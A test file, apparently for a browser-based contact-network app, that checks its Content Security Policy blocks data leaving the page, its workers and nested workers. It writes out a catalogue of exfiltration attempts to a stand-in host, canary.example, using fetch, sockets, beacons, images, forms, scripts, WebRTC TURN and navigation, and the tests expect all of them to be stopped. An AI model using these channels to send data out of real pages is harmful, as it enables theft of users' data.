import { readdirSync } from "node:fs";
import { join, relative } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { crewOf, openLarge } from "./large-steps.ts";
import { largeWorkspace } from "./large-workspace.ts";
import { type OpenedApp, openApp } from "./open-app.ts";
import { openTab } from "./steps.ts";

const away = "http://canary.example/";

/** Ways for a page to send something out. Each resolves when it has had its chance. */
const ways: Readonly<Record<string, string>> = {
  fetch: `fetch("${away}fetch").then(() => "sent", () => "stopped")`,
  "fetch without reading": `fetch("${away}opaque", { mode: "no-cors" }).then(() => "sent", () => "stopped")`,
  XMLHttpRequest: `new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done("sent"); x.onerror = () => done("stopped"); x.open("POST", "${away}xhr"); x.send("names"); })`,
  WebSocket: `new Promise((done) => { try { const s = new WebSocket("ws://canary.example/socket"); s.onopen = () => done("sent"); s.onerror = () => done("stopped"); } catch { done("stopped"); } })`,
  EventSource: `new Promise((done) => { const s = new EventSource("${away}events"); s.onopen = () => done("sent"); s.onerror = () => { s.close(); done("stopped"); }; })`,
  "a beacon": `navigator.sendBeacon("${away}beacon", "names"), new Promise((done) => setTimeout(() => done("stopped"), 500))`,
  "a picture": `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("stopped"); i.src = "${away}picture.png"; })`,
  "a style": `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => done("sent"); l.onerror = () => done("stopped"); l.href = "${away}style.css"; document.head.append(l); })`,
  "a frame": `new Promise((done) => { const f = document.createElement("iframe"); f.src = "${away}frame"; f.onload = () => done("stopped"); document.body.append(f); setTimeout(() => done("stopped"), 500); })`,
  "a form": `new Promise((done) => { const f = document.createElement("form"); f.action = "${away}form"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => done("stopped"), 500); })`,
};

describe("the policy that the app is served with", () => {
  let app: OpenedApp;
  beforeAll(async () => {
    app = await openApp({ webgl: false });
    await app.page.getByRole("heading", { name: /Who could introduce me/ }).waitFor();
  });
  // Every attempt is refused aloud, so the ordinary end of a test, which forbids any complaint, is expected to fail here.
  afterAll(async () => {
    await expect(app.close()).rejects.toMatchObject({
      actual: { faults: expect.arrayContaining([expect.stringContaining("canary.example")]) },
    });
  });

  test("holds in the worker too", async () => {
    const { page } = app;
    await page.getByRole("button", { name: /sample network/ }).click();
    await page.getByRole("article").first().waitFor();
    const [worker] = page.workers();
    if (worker === undefined) throw new Error("no worker was started");
    const tried = await worker.evaluate(async (address) => {
      const sent = await fetch(`${address}from-worker`).then(
        () => "sent",
        () => "stopped",
      );
      const socket = await new Promise<string>((done) => {
        try {
          const opened = new WebSocket("ws://canary.example/from-worker");
          opened.onopen = () => done("sent");
          opened.onerror = () => done("stopped");
        } catch {
          done("stopped");
        }
      });
      return [sent, socket];
    }, away);
    expect(tried).toEqual(["stopped", "stopped"]);
    expect(app.departures().arrived).toEqual([]);
  });

  test.each(Object.entries(ways))("stops %s", async (_, way) => {
    expect(await app.page.evaluate<string>(way)).toBe("stopped");
    expect(app.departures().arrived).toEqual([]);
    expect(app.page.url().startsWith(app.address)).toBe(true);
  });

  test("stops a script from elsewhere and one that is written into the page", async () => {
    const ran = await app.page.evaluate(async (address) => {
      const load = (fill: (script: HTMLScriptElement) => void) =>
        new Promise<string>((done) => {
          const script = document.createElement("script");
          script.onload = () => done("ran");
          script.onerror = () => done("stopped");
          try {
            fill(script);
          } catch {
            done("stopped");
          }
          document.head.append(script);
          setTimeout(() => done("ran" in window ? "ran" : "stopped"), 300);
        });
      return [
        await load((script) => {
          script.src = `${address}script.js`;
        }),
        await load((script) => {
          script.text = "window.ran = true";
        }),
      ];
    }, away);
    expect(ran).toEqual(["stopped", "stopped"]);
    expect(app.departures().arrived).toEqual([]);
  });
});

describe("exact figures of a large network", () => {
  test("are computed by workers and WebAssembly that the policy lets run and lets send nothing", async () => {
    const app = await openLarge(largeWorkspace(20_000, 3).text, { webgl: false });
    const { page } = app;
    const panel = await openTab(page, "Bridging contacts");
    await panel.getByRole("progressbar", { name: /Computing it exactly/ }).waitFor();
    await expect.poll(() => crewOf(page).length).toBeGreaterThan(0);
    // Compiled in the worker: without it, the estimate of so many would be said to take the slower way, and the console to complain.
    expect(app.faults).toEqual([]);
    const [worker] = page.workers().filter((other) => !other.url().includes("crew-host"));
    const compiled = await worker?.evaluate(async () => {
      const empty = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      return (await WebAssembly.compile(empty)) instanceof WebAssembly.Module;
    });
    expect(compiled).toBe(true);
    await panel.getByRole("button", { name: "Stop", exact: true }).click();
    await expect.poll(() => crewOf(page)).toEqual([]);
    // Requests of workers inside workers pass the proxy like all others.
    expect(app.departures()).toEqual({ asked: [], arrived: [] });
    await app.close();
  });

  test("leave the crew no way out", async () => {
    const app = await openLarge(largeWorkspace(20_000, 3).text, { webgl: false });
    const { page } = app;
    await openTab(page, "Bridging contacts");
    await expect.poll(() => crewOf(page).length).toBeGreaterThan(0);
    const [crew] = crewOf(page);
    if (crew === undefined) throw new Error("no crew was started");
    const tried = await crew.evaluate<readonly string[]>(`Promise.all([
      fetch("${away}from-crew").then(() => "sent", () => "stopped"),
      import("${away}script.js").then(() => "ran", () => "stopped"),
      new Promise((done) => setTimeout(() => { try { done(Function("return 'ran'")()); } catch { done("stopped"); } })),
    ])`);
    expect(tried).toEqual(["stopped", "stopped", "stopped"]);
    expect(app.departures().arrived).toEqual([]);
    // Refused aloud, so the ordinary end of a test, which forbids any complaint, is not expected here.
    await app.close().catch(() => undefined);
  });
});

describe("ways out that no content policy forbids", () => {
  const leaving: Readonly<Record<string, string>> = {
    "a new window": `void window.open("${away}window", "_blank")`,
    "leaving the page": `void (location.href = "${away}navigation")`,
    "a peer connection": `void (async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "turn:canary.example:80?transport=tcp", username: "a", credential: "b" }] }); peer.createDataChannel("names"); await peer.setLocalDescription(await peer.createOffer()); })()`,
  };

  test.each(Object.entries(leaving))("%s reaches nobody", async (_, way) => {
    const app = await openApp({ webgl: false });
    const { page } = app;
    await page.getByRole("heading", { name: /Who could introduce me/ }).waitFor();
    await page.evaluate(way).catch(() => undefined);
    await page.waitForTimeout(1500);
    expect(app.departures().arrived).toEqual([]);
    await app.close().catch(() => undefined);
  });

  test.each(["a new window", "leaving the page"])(
    "%s of a page without the policy is seen, and fails the test it happens in",
    async (name) => {
      const app = await openApp({ webgl: false });
      const page = await app.context.newPage();
      await page.goto("about:blank");
      await page.evaluate(leaving[name] ?? "").catch(() => undefined);
      await expect.poll(() => app.departures().arrived.join(" "), { timeout: 10_000 }).toContain("canary.example");
      await expect(app.close()).rejects.toMatchObject({
        actual: { left: expect.arrayContaining([expect.stringContaining("canary.example")]) },
      });
    },
  );
});

describe("what is served", () => {
  test("every file carries the policy, the worker's among them", async () => {
    const address = inject("address");
    const built = join(import.meta.dirname, "../../dist/app");
    const files = readdirSync(built, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && entry.name !== "_headers")
      .map((entry) => relative(built, join(entry.parentPath, entry.name)));
    expect(files.some((file) => /host-.*\.js$/.test(file))).toBe(true);
    for (const file of ["", ...files]) {
      const { headers, ok } = await fetch(new URL(file, address));
      const policy = headers.get("content-security-policy") ?? "";
      expect({ file, ok, nosniff: headers.get("x-content-type-options"), referrer: headers.get("referrer-policy") }).toEqual({
        file,
        ok: true,
        nosniff: "nosniff",
        referrer: "no-referrer",
      });
      for (const rule of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "require-trusted-types-for 'script'"])
        expect(policy).toContain(rule);
      // WebAssembly may be compiled, text may not become code.
      expect(policy.replace("'wasm-unsafe-eval'", "")).not.toMatch(/unsafe|\*|https?:/);
    }
  });
});
